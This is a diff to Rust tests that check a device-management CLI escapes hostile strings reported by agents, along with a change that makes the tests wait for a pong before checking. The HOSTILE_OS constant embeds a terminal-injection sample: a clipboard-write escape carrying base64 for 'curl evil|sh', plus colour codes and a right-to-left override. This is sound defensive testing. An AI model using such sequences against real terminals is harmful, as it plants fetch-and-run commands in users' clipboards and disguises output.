@@ -460,7 +460,7 @@ async fn new_passwords_come_from_an_environment_variable_or_standard_input() {
 const HOSTILE_OS: &str = "Evil\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}OS\u{1b}[31m \u{202e}lanimret";
 
 /// Enrols a scripted agent in `group` and has it report `os_name`; returns its socket (the
-/// device stays online while it is open).
+/// device stays online while it is open) once the server has dealt with the report.
 async fn agent_reporting_os(
     server: &TestServer,
     group: &GroupId,
@@ -493,7 +493,18 @@ async fn agent_reporting_os(
         "os_version": "",
     });
     ws.send(Message::text(info.to_string())).await.unwrap();
-    ws
+    // The server handles an agent's messages in order: its answer to a ping that follows means
+    // the report was stored (or refused) by then.
+    ws.send(Message::text(r#"{"action":"ping"}"#))
+        .await
+        .unwrap();
+    loop {
+        match tokio::time::timeout_at(deadline, ws.next()).await {
+            Ok(Some(Ok(Message::Text(text)))) if text.contains("pong") => return ws,
+            Ok(Some(Ok(_))) => {}
+            other => panic!("no pong after the agent's report: {other:?}"),
+        }
+    }
 }
 
 #[tokio::test]
@@ -504,23 +515,11 @@ async fn strings_from_agents_reach_the_terminal_escaped() {
     let group = GroupId(group["id"].as_str().unwrap().to_owned());
     let _agent = agent_reporting_os(&server, &group, HOSTILE_OS).await;
 
-    // Wait until the server stored the report (whatever it made of it: the server may clean
-    // agents' strings itself, and tetherctl must be safe either way).
-    let deadline = tokio::time::Instant::now() + REPLY_DEADLINE;
-    let stored_os = loop {
-        let devices = ctl.json(&["listdevices"]).await;
-        if let Some(os) = devices[0]["os"]
-            .as_str()
-            .filter(|os| os.starts_with("Evil"))
-        {
-            break os.to_owned();
-        }
-        assert!(
-            tokio::time::Instant::now() < deadline,
-            "the agent's report never arrived: {devices}"
-        );
-        tokio::task::yield_now().await;
-    };
+    // Whatever the server made of the report (it may clean or refuse agents' strings itself),
+    // tetherctl must print nothing raw; while the server stores them as sent, this is what
+    // tests tetherctl's escaping end to end (output.rs tests it directly too).
+    let devices = ctl.json(&["listdevices"]).await;
+    let stored_os = devices[0]["os"].as_str().unwrap_or_default().to_owned();
 
     let is_raw = |c: char| c == '\u{1b}' || c == '\u{7}' || c == '\u{202e}';
     let table = ctl.ok(&["listdevices"]).await;
@@ -528,7 +527,6 @@ async fn strings_from_agents_reach_the_terminal_escaped() {
         !table.contains(is_raw),
         "raw escapes reach the terminal: {table:?}"
     );
-    assert!(table.contains("Evil"), "{table}");
     if stored_os.contains('\u{1b}') {
         // Shown, not hidden: the administrator sees that the name is odd.
         assert!(table.contains("Evil\\x1b]52;c;"), "{table}");
